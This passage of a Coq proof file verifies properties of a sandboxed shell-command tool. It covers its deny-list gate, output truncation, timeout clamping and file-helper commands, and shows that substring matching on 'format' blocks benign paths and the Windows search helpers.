(** The run of a command that mentions a deny pattern. *)
Lemma run_command_blocked (valves : Valves) (w : World)
    (command working_dir : string) (timeout : Z) :
  mentions_blocked command ->
  run_command valves w command working_dir timeout
  = ret "Error: This command is blocked for safety reasons.".
Proof.
  intros Hm. pose proof (proj2 (is_blocked_spec command) Hm) as Hb.
  apply mentions_blocked_contains in Hm as (blocked & Hin & H).
  destruct (solid_lower_inv _ _ BLOCKED_COMMANDS_solid Hin) as (_ & Hh & Ht).
  destruct (solid_occurrence_not_blank _ _ Hh Ht H) as [Hc Hs].
  unfold run_command. now rewrite Hc, Hs, Hb.
Qed.

(** ** Blank commands and warnings *)

(** X3.  A command made of white space only is refused as empty, and no
    subprocess is started. *)
Theorem blank_command_rejected
    (valves : Valves) (w : World) (command working_dir : string) (timeout : Z) :
  all_chars isspace command = true ->
  run_command valves w command working_dir timeout
  = {| outcome := Returns "Error: No command provided."; spawned := [] |}.
Proof.
  intros H. unfold run_command, strip. rewrite (all_space_lstrip _ H).
  cbn [rstrip truthy negb]. now rewrite orb_true_r.
Qed.

Lemma blank_command_rejected_witness :
  all_chars isspace ("   " ++ LF) = true
  /\ run_command default_valves (posix_world (Completed "x" EmptyString 0))
       ("   " ++ LF) "/data/projects" 10
     = {| outcome := Returns "Error: No command provided."; spawned := [] |}.
Proof.
  assert (H : all_chars isspace ("   " ++ LF) = true) by reflexivity.
  split; [exact H|].
  exact (blank_command_rejected default_valves
           (posix_world (Completed "x" EmptyString 0))
           ("   " ++ LF) "/data/projects" 10 H).
Defined.

(** X4.  The warnings of a command are exactly the messages
    [Command contains 'p'] for the warn patterns [p] that occur in its
    lower-cased text. *)
Theorem _has_warnings_membership (command message : string) :
  In message (_has_warnings command)
  <-> exists pattern,
        In pattern WARN_PATTERNS
        /\ (exists pre post, lower command = pre ++ pattern ++ post)
        /\ message = "Command contains '" ++ pattern ++ "'".
Proof.
  unfold _has_warnings. rewrite warnings_loop_filter, in_map_iff. split.
  - intros (pattern & <- & Hin). apply filter_In in Hin as [Hin H].
    exists pattern. rewrite <- contains_spec. auto.
  - intros (pattern & Hin & H & ->). exists pattern. split; [reflexivity|].
    apply filter_In. rewrite contains_spec. auto.
Qed.

(** ** What a run returns *)

Lemma truthy_append_r (a b : string) : truthy b = true -> truthy (a ++ b) = true.
Proof. destruct a; simpl; auto. Qed.

Lemma truthy_false_neg (s : string) : truthy s = true -> s <> EmptyString.
Proof. destruct s; [discriminate | intros _; discriminate]. Qed.

Lemma slice_to_len (s : string) (n : Z) :
  0 <= n <= len s -> len (slice_to s n) = n.
Proof.
  intros Hn. unfold slice_to. destruct (Z.ltb_spec n 0); [lia|].
  unfold len in *. rewrite take_length; lia.
Qed.

Lemma reported_output_truthy (stdout stderr : string) :
  truthy (reported_output stdout stderr) = true.
Proof.
  unfold reported_output.
  destruct (truthy (strip (merge_streams stdout stderr))) eqn:H; [|reflexivity].
  now apply strip_truthy.
Qed.

Lemma truncate_output_truthy (valves : Valves) (output : string) :
  truthy output = true -> truthy (truncate_output valves output) = true.
Proof.
  intros H. unfold truncate_output.
  destruct (len output >? _get_max_output valves); [|exact H].
  apply truthy_append_r. reflexivity.
Qed.

Lemma format_completed_truthy (valves : Valves) (warning_msg : string)
    (stdout stderr : string) (returncode : Z) :
  truthy (format_completed valves warning_msg stdout stderr returncode) = true.
Proof.
  unfold format_completed. apply truthy_append_r.
  pose proof (truncate_output_truthy valves _
                (reported_output_truthy stdout stderr)) as H.
  destruct (negb (returncode =? 0)); [now apply truthy_append_l | exact H].
Qed.

Lemma returned_text_truthy
    (valves : Valves) (w : World) (command working_dir : string) (timeout : Z)
    (text : string) :
  outcome (run_command valves w command working_dir timeout) = Returns text ->
  truthy text = true.
Proof.
  unfold run_command.
  destruct (negb (truthy command) || negb (truthy (strip command)));
    [intros [= <-]; reflexivity|].
  destruct (_is_blocked command); [intros [= <-]; reflexivity|].
  destruct (truthy working_dir).
  - destruct (expand_home w working_dir) as [dir|]; [|discriminate].
    destruct (path_isdir w dir); [|intros [= <-]; reflexivity].
    cbn [outcome]. intros [= <-].
    match goal with |- context [subprocess_run w ?r] =>
      destruct (subprocess_run w r) end;
      try reflexivity. apply format_completed_truthy.
  - cbn [outcome]. intros [= <-].
    match goal with |- context [subprocess_run w ?r] =>
      destruct (subprocess_run w r) end;
      try reflexivity. apply format_completed_truthy.
Qed.

(** X5.  Whatever the command, the configuration and the host do, the
    string [run_command] returns is not empty. *)
Theorem returned_never_empty
    (valves : Valves) (w : World) (command working_dir : string) (timeout : Z) :
  outcome (run_command valves w command working_dir timeout)
  <> Returns EmptyString.
Proof.
  intros H. apply returned_text_truthy in H. discriminate.
Qed.

(** X6.  With a non-negative [max_output_kb], the text returned for a
    completed subprocess is never longer than the warning line, the
    ceiling of [max_output_kb * 1024] characters, the truncation notice
    and the exit-code marker together. *)
Theorem returned_length_bound
    (valves : Valves) (w : World) (command working_dir : string) (timeout : Z)
    (req : SpawnRequest) (stdout stderr : string) (returncode : Z) :
  In req (spawned (run_command valves w command working_dir timeout)) ->
  subprocess_run w req = Completed stdout stderr returncode ->
  0 <= max_output_kb valves ->
  exists text,
    outcome (run_command valves w command working_dir timeout) = Returns text
    /\ len text
       <= len (warning_msg_of (_has_warnings command))
          + max_output_kb valves * 1024
          + len (truncation_notice (max_output_kb valves * 1024))
          + len (exit_code_marker returncode).
Proof.
  intros Hin Hrun Hkb. rewrite (returned_completed _ _ _ _ _ _ _ _ _ Hin Hrun).
  eexists. split; [reflexivity|].
  unfold format_completed. rewrite len_append.
  set (out := reported_output stdout stderr).
  assert (Hbody : len (truncate_output valves out)
                  <= max_output_kb valves * 1024
                     + len (truncation_notice (max_output_kb valves * 1024))).
  { unfold truncate_output, _get_max_output.
    pose proof (len_nonneg (truncation_notice (max_output_kb valves * 1024))).
    destruct (Z.gtb_spec (len out) (max_output_kb valves * 1024)).
    - rewrite len_append, slice_to_len; lia.
    - lia. }
  pose proof (len_nonneg (exit_code_marker returncode)).
  destruct (negb (returncode =? 0)); [rewrite len_append|]; lia.
Qed.

Lemma returned_length_bound_witness :
  let valves := set_max_output_kb default_valves 1 in
  let w := posix_world (Completed (replicate 3000 "z") "warn" 2) in
  let req := request_for valves w "sudo ls" EmptyString 0 in
  In req (spawned (run_command valves w "sudo ls" EmptyString 0))
  /\ subprocess_run w req = Completed (replicate 3000 "z") "warn" 2
  /\ 0 <= max_output_kb valves
  /\ exists text,
       outcome (run_command valves w "sudo ls" EmptyString 0) = Returns text
       /\ len text
          <= len (warning_msg_of (_has_warnings "sudo ls"))
             + max_output_kb valves * 1024
             + len (truncation_notice (max_output_kb valves * 1024))
             + len (exit_code_marker 2).
Proof.
  intros valves w req.
  assert (H1 : In req (spawned (run_command valves w "sudo ls" EmptyString 0)))
    by (left; reflexivity).
  assert (H2 : subprocess_run w req = Completed (replicate 3000 "z") "warn" 2)
    by reflexivity.
  assert (H3 : 0 <= max_output_kb valves) by (vm_compute; discriminate).
  repeat (split; [assumption|]).
  exact (returned_length_bound valves w "sudo ls" EmptyString 0 req
           (replicate 3000 "z") "warn" 2 H1 H2 H3).
Defined.

(** X7.  A command without warn patterns whose subprocess exits with
    code 0 and whose merged output is not blank and fits the ceiling gets
    that output back unchanged: nothing is added and nothing is cut. *)
Theorem clean_run_returns_output
    (valves : Valves) (w : World) (command working_dir : string) (timeout : Z)
    (req : SpawnRequest) (stdout stderr : string) :
  In req (spawned (run_command valves w command working_dir timeout)) ->
  subprocess_run w req = Completed stdout stderr 0 ->
  _has_warnings command = [] ->
  strip (merge_streams stdout stderr) <> EmptyString ->
  len (merge_streams stdout stderr) <= max_output_kb valves * 1024 ->
  outcome (run_command valves w command working_dir timeout)
  = Returns (merge_streams stdout stderr).
Proof.
  intros Hin Hrun Hw Hblank Hfit.
  rewrite (returned_completed _ _ _ _ _ _ _ _ _ Hin Hrun), Hw. f_equal.
  unfold format_completed, reported_output, truncate_output, _get_max_output.
  destruct (truthy (strip (merge_streams stdout stderr))) eqn:Ht;
    [|apply truthy_false in Ht; contradiction].
  destruct (Z.gtb_spec (len (merge_streams stdout stderr))
              (max_output_kb valves * 1024)); [lia|].
  reflexivity.
Qed.

Lemma clean_run_returns_output_witness :
  let w := posix_world (Completed ("a.txt" ++ LF) "ls: b: denied" 0) in
  let req := request_for default_valves w "ls a.txt b" EmptyString 0 in
  In req (spawned (run_command default_valves w "ls a.txt b" EmptyString 0))
  /\ subprocess_run w req = Completed ("a.txt" ++ LF) "ls: b: denied" 0
  /\ _has_warnings "ls a.txt b" = []
  /\ strip (merge_streams ("a.txt" ++ LF) "ls: b: denied") <> EmptyString
  /\ len (merge_streams ("a.txt" ++ LF) "ls: b: denied")
     <= max_output_kb default_valves * 1024
  /\ outcome (run_command default_valves w "ls a.txt b" EmptyString 0)
     = Returns
         ("a.txt" ++ LF ++ LF ++ "--- stderr ---" ++ LF ++ "ls: b: denied").
Proof.
  intros w req.
  assert (H1 : In req
            (spawned (run_command default_valves w "ls a.txt b" EmptyString 0)))
    by (left; reflexivity).
  assert (H2 : subprocess_run w req
               = Completed ("a.txt" ++ LF) "ls: b: denied" 0) by reflexivity.
  assert (H3 : _has_warnings "ls a.txt b" = []) by reflexivity.
  assert (H4 : strip (merge_streams ("a.txt" ++ LF) "ls: b: denied")
               <> EmptyString) by discriminate.
  assert (H5 : len (merge_streams ("a.txt" ++ LF) "ls: b: denied")
               <= max_output_kb default_valves * 1024)
    by (vm_compute; discriminate).
  repeat (split; [assumption|]).
  exact (clean_run_returns_output default_valves w "ls a.txt b" EmptyString 0
           req ("a.txt" ++ LF) "ls: b: denied" H1 H2 H3 H4 H5).
Defined.

(** X8.  The argument vector of every subprocess is one of the four
    shell prefixes followed by the command as a single, unchanged last
    argument; a host that is not Windows gets [/bin/bash] or [/bin/sh],
    a Windows host [powershell] or [cmd]. *)
Theorem spawned_argv_shape
    (valves : Valves) (w : World) (command working_dir : string) (timeout : Z)
    (req : SpawnRequest) :
  In req (spawned (run_command valves w command working_dir timeout)) ->
  if String.eqb (SYSTEM w) "Windows"
  then argv req = ["powershell"; "-NoProfile"; "-Command"; command]
       \/ argv req = ["cmd"; "/c"; command]
  else argv req = ["/bin/bash"; "-c"; command]
       \/ argv req = ["/bin/sh"; "-c"; command].
Proof.
  intros Hin. apply spawned_inv in Hin as (_ & _ & _ & ->).
  cbn [request_for argv]. unfold _get_shell.
  destruct (String.eqb (SYSTEM w) "Windows").
  - destruct (path_exists w _); [left | right]; reflexivity.
  - destruct (path_exists w "/bin/bash"); [left | right]; reflexivity.
Qed.

Lemma spawned_argv_shape_witness :
  let w := open_world "Windows" (Completed "ok" EmptyString 0) in
  let req := request_for default_valves w "dir" EmptyString 0 in
  In req (spawned (run_command default_valves w "dir" EmptyString 0))
  /\ (argv req = ["powershell"; "-NoProfile"; "-Command"; "dir"]
      \/ argv req = ["cmd"; "/c"; "dir"]).
Proof.
  intros w req.
  assert (H : In req (spawned (run_command default_valves w "dir" EmptyString 0)))
    by (left; reflexivity).
  split; [exact H|].
  exact (spawned_argv_shape default_valves w "dir" EmptyString 0 req H).
Defined.

(** X9.  When the subprocess times out, the returned error names the
    timeout that was passed to it, a number between 1 and 120. *)
Theorem timeout_error_names_timeout
    (valves : Valves) (w : World) (command working_dir : string) (timeout : Z)
    (req : SpawnRequest) :
  In req (spawned (run_command valves w command working_dir timeout)) ->
  subprocess_run w req = RaiseTimeoutExpired ->
  outcome (run_command valves w command working_dir timeout)
  = Returns ("Error: Command timed out after "
             ++ str_of_int (spawn_timeout req) ++ " seconds.")
  /\ 1 <= spawn_timeout req <= 120.
Proof.
  intros Hin Hrun. apply spawned_inv in Hin as (Hs & Hb & Hd & ->).
  rewrite (run_command_spawns _ _ _ _ _ Hs Hb Hd). cbn [outcome].
  rewrite Hrun. split; [reflexivity|]. apply clamp_bounds.
Qed.

Lemma timeout_error_names_timeout_witness :
  let w := posix_world RaiseTimeoutExpired in
  let req := request_for default_valves w "sleep 500" EmptyString 300 in
  In req (spawned (run_command default_valves w "sleep 500" EmptyString 300))
  /\ subprocess_run w req = RaiseTimeoutExpired
  /\ outcome (run_command default_valves w "sleep 500" EmptyString 300)
     = Returns "Error: Command timed out after 120 seconds."
  /\ 1 <= spawn_timeout req <= 120.
Proof.
  intros w req.
  assert (H1 : In req
            (spawned (run_command default_valves w "sleep 500" EmptyString 300)))
    by (left; reflexivity).
  assert (H2 : subprocess_run w req = RaiseTimeoutExpired) by reflexivity.
  repeat (split; [assumption|]).
  exact (timeout_error_names_timeout default_valves w "sleep 500" EmptyString
           300 req H1 H2).
Defined.

(** ** The search helpers *)

(** Moves an occurrence [H] of a pattern in one part of a text to the
    whole lower-cased text. *)
Ltac occurs_in_part H :=
  repeat rewrite lower_append;
  repeat rewrite append_assoc;
  repeat first
    [ exact H
    | apply contains_append_l; exact H
    | apply contains_append_r ].

Lemma mentions_blocked_part (blocked part text : string) :
  In blocked BLOCKED_COMMANDS ->
  contains blocked (lower part) = true ->
  (contains blocked (lower part) = true -> contains blocked (lower text) = true) ->
  mentions_blocked text.
Proof.
  intros Hin H Hstep. apply mentions_blocked_contains.
  exists blocked. auto.
Qed.

(** X11.  On a Windows host the two search helpers never start a
    subprocess: the command they build ends in the [Format-Table]
    cmdlet, in which the deny pattern [format] occurs, so for an existing
    path the answer is always the blocked error. *)
Theorem windows_search_always_blocked
    (valves : Valves) (w : World) (text path file_type found : string) :
  SYSTEM w = "Windows" ->
  expand_home w path = Some found ->
  path_exists w found = true ->
  quick_search valves w text path file_type
    = {| outcome := Returns "Error: This command is blocked for safety reasons.";
         spawned := [] |}
  /\ search_content valves w text path file_type
     = {| outcome := Returns "Error: This command is blocked for safety reasons.";
          spawned := [] |}.
Proof.
  intros Hsys Hexp Hex. unfold quick_search, search_content.
  rewrite Hexp, Hex, Hsys, String.eqb_refl. cbn [negb]. split.
  - apply run_command_blocked.
    assert (H : contains "format"
              (lower " } | Select-Object -First 50 FullName, Length, LastWriteTime | Format-Table -AutoSize")
              = true) by reflexivity.
    apply (mentions_blocked_part "format" _ _ ltac:(simpl; tauto) H).
    intros _. occurs_in_part H.
  - apply run_command_blocked.
    assert (H : contains "format"
              (lower " | Select-Object -First 100 | Format-Table -AutoSize Path, LineNumber, Line")
              = true) by reflexivity.
    apply (mentions_blocked_part "format" _ _ ltac:(simpl; tauto) H).
    intros _. occurs_in_part H.
Qed.

Lemma windows_search_always_blocked_witness :
  let w := open_world "Windows" (Completed "x" EmptyString 0) in
  SYSTEM w = "Windows"
  /\ expand_home w "C:\Users" = Some "C:\Users"
  /\ path_exists w "C:\Users" = true
  /\ quick_search default_valves w "report" "C:\Users" "txt"
     = {| outcome := Returns "Error: This command is blocked for safety reasons.";
          spawned := [] |}
  /\ search_content default_valves w "report" "C:\Users" "txt"
     = {| outcome := Returns "Error: This command is blocked for safety reasons.";
          spawned := [] |}.
Proof.
  intros w.
  assert (H1 : SYSTEM w = "Windows") by reflexivity.
  assert (H2 : expand_home w "C:\Users" = Some "C:\Users") by reflexivity.
  assert (H3 : path_exists w "C:\Users" = true) by reflexivity.
  repeat (split; [assumption|]).
  exact (windows_search_always_blocked default_valves w "report" "C:\Users"
           "txt" "C:\Users" H1 H2 H3).
Defined.

(** X12.  A search whose text, or whose expanded path, mentions a deny
    pattern is refused by the gate of [run_command]: both helpers return
    the blocked error and start no subprocess, on every platform. *)
Theorem search_blocked_by_argument
    (valves : Valves) (w : World) (text path file_type found : string) :
  expand_home w path = Some found ->
  path_exists w found = true ->
  mentions_blocked text \/ mentions_blocked found ->
  quick_search valves w text path file_type
    = {| outcome := Returns "Error: This command is blocked for safety reasons.";
         spawned := [] |}
  /\ search_content valves w text path file_type
     = {| outcome := Returns "Error: This command is blocked for safety reasons.";
          spawned := [] |}.
Proof.
  intros Hexp Hex Hm. unfold quick_search, search_content. rewrite Hexp, Hex.
  cbn [negb].
  assert (Hpart : exists blocked part,
             In blocked BLOCKED_COMMANDS
             /\ contains blocked (lower part) = true
             /\ (part = text \/ part = found)).
  { destruct Hm as [Hm | Hm];
      apply mentions_blocked_contains in Hm as (blocked & Hin & H);
      eauto 7. }
  destruct Hpart as (blocked & part & Hin & H & Hpart).
  split; apply run_command_blocked;
    apply (mentions_blocked_part blocked part _ Hin H); intros _;
    destruct (String.eqb (SYSTEM w) "Windows");
    destruct Hpart as [-> | ->]; occurs_in_part H.
Qed.

Lemma search_blocked_by_argument_witness :
  let w := open_world "Linux" (Completed "x" EmptyString 0) in
  expand_home w "~/docs" = Some "/root/docs"
  /\ path_exists w "/root/docs" = true
  /\ (mentions_blocked "Information" \/ mentions_blocked "/root/docs")
  /\ quick_search default_valves w "Information" "~/docs" "pdf"
     = {| outcome := Returns "Error: This command is blocked for safety reasons.";
          spawned := [] |}
  /\ search_content default_valves w "Information" "~/docs" "pdf"
     = {| outcome := Returns "Error: This command is blocked for safety reasons.";
          spawned := [] |}.
Proof.
  intros w.
  assert (H1 : expand_home w "~/docs" = Some "/root/docs") by reflexivity.
  assert (H2 : path_exists w "/root/docs" = true) by reflexivity.
  assert (H3 : mentions_blocked "Information" \/ mentions_blocked "/root/docs").
  { left. exists "format", "in", "ion". split; [simpl; tauto | reflexivity]. }
  repeat (split; [assumption|]).
  exact (search_blocked_by_argument default_valves w "Information"
           "~/docs" "pdf" "/root/docs" H1 H2 H3).
Defined.

(** ** list_folder and create_folder *)

(** [list_folder] makes the calls of its one [run_command]. *)
Lemma list_folder_spawned
    (valves : Valves) (w : World) (path : string) (show_hidden details : bool) :
  spawned (list_folder valves w path show_hidden details)
  = spawned (run_command valves w
               ("ls " ++ list_flags show_hidden details ++ " '" ++ path
                ++ "' 2>/dev/null") EmptyString 0).
Proof.
  unfold list_folder. destruct (outcome _) as [text|]; [|reflexivity].
  destruct (contains _ text); reflexivity.
Qed.

(** X13.  Without [details] the switch [show_hidden] has no effect:
    the listing command is [ls -1] on the path for either value, so
    hidden entries are not listed. *)
Theorem list_folder_hidden_needs_details
    (valves : Valves) (w : World) (path : string) (show_hidden : bool) :
  list_folder valves w path show_hidden false
  = list_folder valves w path (negb show_hidden) false
  /\ let cmd := "ls -1 '" ++ path ++ "' 2>/dev/null" in
     forall req,
       In req (spawned (list_folder valves w path show_hidden false)) ->
       argv req = (_get_shell w ++ [cmd])%list.
Proof.
  split; [destruct show_hidden; reflexivity|].
  intros cmd req. unfold cmd. rewrite list_folder_spawned.
  replace (list_flags show_hidden false) with "-1"
    by (destruct show_hidden; reflexivity).
  intros Hin. apply spawned_inv in Hin as (_ & _ & _ & ->). reflexivity.
Qed.

Lemma list_folder_hidden_needs_details_witness :
  let w := posix_world (Completed "a" EmptyString 0) in
  list_folder default_valves w "/data/projects" true false
  = list_folder default_valves w "/data/projects" false false
  /\ forall req,
       In req (spawned (list_folder default_valves w "/data/projects" true false)) ->
       argv req = ["/bin/bash"; "-c"; "ls -1 '/data/projects' 2>/dev/null"].
Proof.
  intros w.
  exact (list_folder_hidden_needs_details default_valves w "/data/projects" true).
Defined.

(** X14.  When the path mentions a deny pattern no listing is made, and
    the blocked error of [run_command] comes back under the heading
    [Contents of], not as an error of [list_folder]. *)
Theorem list_folder_wraps_block
    (valves : Valves) (w : World) (path : string) (show_hidden details : bool) :
  mentions_blocked path ->
  list_folder valves w path show_hidden details
  = {| outcome :=
         Returns ("Contents of " ++ path ++ ":" ++ LF ++ LF
                  ++ "Error: This command is blocked for safety reasons.");
       spawned := [] |}.
Proof.
  intros Hm. unfold list_folder.
  rewrite run_command_blocked; [reflexivity|].
  apply mentions_blocked_contains in Hm as (blocked & Hin & H).
  apply (mentions_blocked_part blocked path _ Hin H). intros _.
  occurs_in_part H.
Qed.

Lemma list_folder_wraps_block_witness :
  let w := posix_world (Completed "a" EmptyString 0) in
  mentions_blocked "/data/user-files/Reformatted"
  /\ list_folder default_valves w "/data/user-files/Reformatted" false true
     = {| outcome :=
            Returns ("Contents of /data/user-files/Reformatted:" ++ LF ++ LF
                     ++ "Error: This command is blocked for safety reasons.");
          spawned := [] |}.
Proof.
  intros w.
  assert (H : mentions_blocked "/data/user-files/Reformatted").
  { exists "format", "/data/user-files/re", "ted".
    split; [simpl; tauto | reflexivity]. }
  split; [exact H|].
  exact (list_folder_wraps_block default_valves w
           "/data/user-files/Reformatted" false true H).
Defined.

(** X15.  A folder path that passes the writable-area check but
    mentions a deny pattern is not created: the [mkdir] command built
    from it is stopped by the gate of [run_command]. *)
Theorem create_folder_blocked
    (valves : Valves) (w : World) (folder_path : string) (create_parents : bool) :
  let resolved :=
    if startswith folder_path "/" then folder_path
    else "/data/projects/" ++ folder_path in
  startswith resolved "/data/user-files" || startswith resolved "/data/projects"
    = true ->
  mentions_blocked folder_path ->
  create_folder valves w folder_path create_parents
  = {| outcome := Returns "Error: This command is blocked for safety reasons.";
       spawned := [] |}.
Proof.
  intros resolved Hgate Hm. unfold create_folder.
  apply mentions_blocked_contains in Hm as (blocked & Hin & H).
  destruct (startswith folder_path "/"); cbn [negb]; fold resolved;
    rewrite Hgate; cbn [negb]; apply run_command_blocked;
    apply (mentions_blocked_part blocked folder_path _ Hin H); intros _;
    unfold resolved; occurs_in_part H.
Qed.

Lemma create_folder_blocked_witness :
  let w := posix_world (Completed "a" EmptyString 0) in
  startswith ("/data/projects/" ++ "docs/Formats") "/data/user-files"
  || startswith ("/data/projects/" ++ "docs/Formats") "/data/projects" = true
  /\ mentions_blocked "docs/Formats"
  /\ create_folder default_valves w "docs/Formats" true
     = {| outcome := Returns "Error: This command is blocked for safety reasons.";
          spawned := [] |}.
Proof.
  intros w.
  assert (H1 : startswith ("/data/projects/" ++ "docs/Formats") "/data/user-files"
               || startswith ("/data/projects/" ++ "docs/Formats") "/data/projects"
               = true) by reflexivity.
  assert (H2 : mentions_blocked "docs/Formats").
  { exists "format", "docs/", "s". split; [simpl; tauto | reflexivity]. }
  repeat (split; [assumption|]).
  exact (create_folder_blocked default_valves w "docs/Formats" true H1 H2).
Defined.

(** ** The working directory and timeout of the helpers *)

Lemma default_call_request (valves : Valves) (w : World) (command : string)
    (req : SpawnRequest) :
  In req (spawned (run_command valves w command EmptyString 0)) ->
  cwd req = None
  /\ spawn_timeout req = Z.max 1 (Z.min 120 (default_timeout valves)).
Proof.
  intros Hin. apply spawned_inv in Hin as (_ & _ & _ & ->).
  split; reflexivity.
Qed.

(** The calls of [create_project_structure] are calls of one of its
    two [run_command]s. *)
Lemma project_spawned_cases
    (valves : Valves) (w : World) (project_name template base_path : string)
    (req : SpawnRequest) :
  In req (spawned (create_project_structure valves w project_name template
                     base_path)) ->
  exists command,
    In req (spawned (run_command valves w command EmptyString 0)).
Proof.
  unfold create_project_structure.
  destruct (negb (truthy (safe_name_of project_name))); [intros []|].
  destruct (lookup_template template templates); [|intros []].
  destruct (outcome _) as [text1|]; [|eauto].
  destruct (outcome _) as [text2|]; cbn [spawned]; intros H;
    apply in_app_or in H as [H | H]; eauto.
Qed.

(** X16.  Every subprocess started by [quick_search], [search_content],
    [list_folder], [create_folder] or [create_project_structure] runs in
    the current directory of the tool, whatever [default_working_dir] is
    configured, and with the configured default timeout clamped to
    1..120. *)
Theorem helpers_use_defaults (valves : Valves) (w : World) (req : SpawnRequest) :
  (forall text path file_type,
     In req (spawned (quick_search valves w text path file_type))
     \/ In req (spawned (search_content valves w text path file_type)) ->
     cwd req = None
     /\ spawn_timeout req = Z.max 1 (Z.min 120 (default_timeout valves)))
  /\ (forall path show_hidden details,
        In req (spawned (list_folder valves w path show_hidden details)) ->
        cwd req = None
        /\ spawn_timeout req = Z.max 1 (Z.min 120 (default_timeout valves)))
  /\ (forall folder_path create_parents,
        In req (spawned (create_folder valves w folder_path create_parents)) ->
        cwd req = None
        /\ spawn_timeout req = Z.max 1 (Z.min 120 (default_timeout valves)))
  /\ (forall project_name template base_path,
        In req (spawned (create_project_structure valves w project_name
                           template base_path)) ->
        cwd req = None
        /\ spawn_timeout req = Z.max 1 (Z.min 120 (default_timeout valves))).
Proof.
  repeat split.
  1,2: destruct H as [H | H]; revert H; unfold quick_search, search_content;
       (destruct (expand_home w path) as [found|]; [|intros []]);
       (destruct (negb (path_exists w found)); [intros []|]);
       intros H; now apply default_call_request in H.
  1,2: rewrite list_folder_spawned in H; now apply default_call_request in H.
  1,2: revert H; unfold create_folder; destruct (negb _); [intros []|];
       intros H; now apply default_call_request in H.
  1,2: apply project_spawned_cases in H as [command H];
       now apply default_call_request in H.
Qed.

Lemma helpers_use_defaults_witness :
  let valves := default_valves in
  let w := open_world "Linux" (Completed "a" EmptyString 0) in
  let req := request_for valves w "ls -lh '/tmp' 2>/dev/null" EmptyString 0 in
  In req (spawned (list_folder valves w "/tmp" false true))
  /\ default_working_dir valves = "/data/user-files"
  /\ cwd req = None
  /\ spawn_timeout req = Z.max 1 (Z.min 120 (default_timeout valves)).
Proof.
  intros valves w req.
  assert (H : In req (spawned (list_folder valves w "/tmp" false true)))
    by (left; reflexivity).
  split; [exact H|]. split; [reflexivity|].
  exact (proj1 (proj2 (helpers_use_defaults valves w req)) "/tmp" false true H).
Defined.

(** ** Splitting and joining paths *)

Lemma split_on_nonempty (sep : ascii) (s : string) : split_on sep s <> [].
Proof.
  destruct s as [|c s]; cbn [split_on]; [discriminate|].
  destruct (Ascii.eqb c sep); [discriminate|].
  destruct (split_on sep s); discriminate.
Qed.

Lemma split_on_app (sep : ascii) (a b : string) :
  split_on sep (a ++ String sep b) = (split_on sep a ++ split_on sep b)%list.
Proof.
  induction a as [|c a IH]; cbn [append split_on].
  - now rewrite Ascii.eqb_refl.
  - rewrite IH. destruct (Ascii.eqb c sep); [reflexivity|].
    pose proof (split_on_nonempty sep a) as Hne.
    destruct (split_on sep a); [contradiction | reflexivity].
Qed.

Lemma join_cons2 (sep x y : string) (l : list string) :
  join sep (x :: y :: l) = x ++ sep ++ join sep (y :: l).
Proof. reflexivity. Qed.

(** Joining what was split gives the string back. *)
Lemma join_split_on (sep : ascii) (s : string) :
  join (String sep EmptyString) (split_on sep s) = s.
Proof.
  induction s as [|c s IH]; [reflexivity|]. cbn [split_on].
  pose proof (split_on_nonempty sep s) as Hne.
  destruct (Ascii.eqb_spec c sep) as [-> | Hc].
  - destruct (split_on sep s) as [|y l]; [contradiction|].
    rewrite join_cons2, IH. reflexivity.
  - destruct (split_on sep s) as [|y l]; [contradiction|].
    destruct l as [|z l].
    + cbn [join] in *. now rewrite IH.
    + rewrite join_cons2. rewrite join_cons2 in IH. rewrite <- IH.
      reflexivity.
Qed.

Lemma join_app (sep : string) (l1 l2 : list string) :
  l1 <> [] -> l2 <> [] ->
  join sep (l1 ++ l2) = join sep l1 ++ sep ++ join sep l2.
Proof.
  intros H1 H2. induction l1 as [|x l1 IH]; [contradiction|].
  destruct l1 as [|y l1].
  - destruct l2 as [|z l2]; [contradiction | reflexivity].
  - cbn [List.app] in *. rewrite !join_cons2, IH by discriminate.
    now rewrite !append_assoc.
Qed.

(** A list of at least two parts joins to its front, the separator and
    its last part. *)
Lemma join_removelast_last (sep : string) (l : list string) :
  removelast l <> [] ->
  join sep l = join sep (removelast l) ++ sep ++ last l EmptyString.
Proof.
  intros H. destruct (@exists_last _ l) as (front & x & ->).
  { intros ->. contradiction. }
  rewrite removelast_last in *. rewrite last_last.
  now apply join_app.
Qed.

(** The directory part and the last component of [project_path/item]. *)
Lemma split_project_item (project_path item : string) :
  let parent :=
    join "/" (removelast (split_on "/" (project_path ++ "/" ++ item))) in
  exists dir,
    parent = project_path ++ dir
    /\ project_path ++ "/" ++ item
       = parent ++ "/" ++ last (split_on "/" item) EmptyString.
Proof.
  intros parent. unfold parent. cbn [append].
  rewrite split_on_app.
  pose proof (split_on_nonempty "/" item) as Hi.
  pose proof (split_on_nonempty "/" project_path) as Hp.
  rewrite removelast_app by exact Hi.
  destruct (removelast (split_on "/" item)) as [|d ds] eqn:Hrl.
  - rewrite app_nil_r, join_split_on. exists EmptyString.
    split; [now rewrite append_empty_r|].
    destruct (split_on "/" item) as [|x l] eqn:Hs; [contradiction|].
    destruct l as [|y l]; [|destruct l; discriminate].
    rewrite <- (join_split_on "/" item), Hs. reflexivity.
  - rewrite join_app by (exact Hp || discriminate). rewrite join_split_on.
    exists ("/" ++ join "/" (d :: ds)). split; [reflexivity|].
    rewrite <- (join_split_on "/" item) at 1.
    rewrite (join_removelast_last "/" (split_on "/" item))
      by (rewrite Hrl; discriminate).
    rewrite Hrl. now rewrite !append_assoc.
Qed.

(** ** create_project_structure *)

Lemma item_commands_file (project_path item : string) :
  contains "." (last (split_on "/" item) EmptyString) = true ->
  exists dir,
    item_commands project_path item
    = [ "mkdir -p '" ++ project_path ++ dir ++ "'";
        "touch '" ++ project_path ++ "/" ++ item ++ "'" ]
    /\ project_path ++ "/" ++ item
       = project_path ++ dir ++ "/" ++ last (split_on "/" item) EmptyString.
Proof.
  intros Hdot. unfold item_commands. rewrite Hdot.
  destruct (split_project_item project_path item) as (dir & Hp & Hfull).
  cbv zeta in Hp, Hfull. exists dir. rewrite Hp. split.
  - now rewrite !append_assoc.
  - rewrite Hfull, Hp. now rewrite !append_assoc.
Qed.

(** X17.  For an entry whose last component contains a dot, the loop
    emits [mkdir -p] for a directory below the project path and then
    [touch] for the entry, and the entry is that directory, a slash and
    its last component: the file is touched in the directory just
    made. *)
Theorem file_entry_commands (project_path item : string) :
  contains "." (last (split_on "/" item) EmptyString) = true ->
  exists dir,
    item_commands project_path item
    = [ "mkdir -p '" ++ project_path ++ dir ++ "'";
        "touch '" ++ project_path ++ "/" ++ item ++ "'" ]
    /\ project_path ++ "/" ++ item
       = project_path ++ dir ++ "/" ++ last (split_on "/" item) EmptyString.
